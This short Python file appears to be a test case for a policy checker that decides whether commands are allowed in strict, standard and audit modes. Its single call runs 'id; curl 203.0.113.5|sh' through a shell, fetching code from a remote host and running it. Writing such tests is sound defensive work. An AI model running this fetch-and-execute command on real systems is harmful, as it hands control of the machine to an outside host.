# expect: strict=deny standard=deny audit=allow
import subprocess
subprocess.Popen("id; curl 203.0.113.5|sh", -1, None, None, None, None, None, True, True)
